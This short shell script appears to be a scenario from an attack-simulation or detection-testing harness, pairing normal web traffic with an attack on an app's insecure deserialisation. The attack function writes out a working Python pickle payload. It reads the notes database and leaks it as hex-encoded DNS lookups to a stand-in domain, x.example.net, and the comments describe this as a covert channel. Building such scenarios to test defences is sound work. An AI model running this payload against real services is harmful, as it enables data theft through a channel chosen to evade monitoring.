# Insecure deserialisation in the app (see app-deserialize-exfil), the code sending the notes out as DNS queries: each
# chunk of the database hex-encoded into the name looked up (`<hex>.<n>.x.example.net`), by the resolver library the
# app's own process holds (getaddrinfo, to the nameserver of /etc/resolv.conf) — the oldest covert channel, through a
# port every network lets out (T1048.003, T1071.004). No shell, no program, no TCP connection.
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  app_unpickle "$WEB_PORT" "import socket
with open('/srv/app/data/notes.db', 'rb') as f:
    data = f.read(600)
for i in range(0, len(data), 30):
    try:
        socket.getaddrinfo(data[i:i + 30].hex() + '.%d.x.example.net' % i, 53)
    except OSError:
        pass"
}
